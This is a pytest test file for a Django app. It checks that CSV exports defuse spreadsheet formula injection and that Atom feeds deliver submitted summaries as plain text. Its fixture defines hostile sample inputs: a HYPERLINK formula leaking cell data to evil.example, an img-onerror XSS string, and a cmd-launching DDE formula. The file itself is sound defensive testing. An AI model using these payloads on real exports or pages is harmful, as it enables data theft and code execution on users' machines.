"""Exports carry submitters' text: a spreadsheet must not run it, a feed reader must not render
it as HTML."""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest

from hub.models import Objective

from ..factories import make_practice
from ..pledges.conftest import make_pledge, pledge_indexes  # noqa: F401
from .test_listing import body as streamed

ATOM = "{http://www.w3.org/2005/Atom}"
PAYLOADS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "summary": "<img src=x onerror=alert(1)> and some text",
    "implementing_organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "partners": "+1+1",
}


@pytest.fixture
def hostile(practice_indexes, taxonomy):
    objective = Objective.objects.get(number=1, locale__language_code="en")
    make_practice(practice_indexes["en"], PAYLOADS["title"], [objective],
                  summary=PAYLOADS["summary"],
                  implementing_organisation=PAYLOADS["implementing_organisation"],
                  partners=PAYLOADS["partners"])
    make_practice(practice_indexes["en"], "-2+3 a practice", [objective], partners="\tTabbed",
                  implementing_organisation="\rReturn", summary="Plain")


@pytest.mark.django_db
def test_csv_cells_that_look_like_formulas_are_neutralised(client, hostile):
    body = streamed(client.get("/en/practices/", {"format": "csv"})).decode("utf-8-sig")
    rows = {row["url"]: row for row in csv.DictReader(io.StringIO(body))}
    cells = [value for row in rows.values() for value in row.values()]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    titles = sorted(row["title"] for row in rows.values())
    assert titles == ["'-2+3 a practice", "'" + PAYLOADS["title"]]
    assert "'" + PAYLOADS["implementing_organisation"] in cells
    assert "'+1+1" in cells and "'\tTabbed" in cells and "'\rReturn" in cells
    assert "Plain" in cells  # ordinary text is unchanged
    # JSON is data, not a spreadsheet: unchanged there.
    data = json.loads(streamed(client.get("/en/practices/", {"format": "json"})))
    assert PAYLOADS["title"] in [row["title"] for row in data["results"]]


@pytest.mark.django_db
def test_feed_sends_summaries_as_text(client, hostile):
    response = client.get("/en/practices/feed/")
    assert response.status_code == 200
    feed = ET.fromstring(response.content)
    summaries = {e.find(f"{ATOM}title").text: e.find(f"{ATOM}summary")
                 for e in feed.findall(f"{ATOM}entry")}
    summary = summaries[PAYLOADS["title"]]
    assert summary.get("type") == "text"
    # One level of XML escaping; read as text, it is exactly what was typed.
    assert summary.text == PAYLOADS["summary"]
    assert 'type="html"' not in response.content.decode()


@pytest.mark.django_db
def test_pledge_exports_are_protected_the_same_way(client, pledge_indexes):  # noqa: F811
    """The pledges' CSV and Atom go through the same export code: the same protections."""
    make_pledge(pledge_indexes["en"], PAYLOADS["title"], slug="hostile",
                summary=PAYLOADS["summary"], pledging_entity=PAYLOADS["partners"])
    body = streamed(client.get("/en/pledges/", {"format": "csv"})).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["title"] == "'" + PAYLOADS["title"]
    assert row["pledging_entity"] == "'" + PAYLOADS["partners"]
    feed = ET.fromstring(client.get("/en/pledges/feed/").content)
    summary = feed.find(f"{ATOM}entry").find(f"{ATOM}summary")
    assert summary.get("type") == "text" and summary.text == PAYLOADS["summary"]
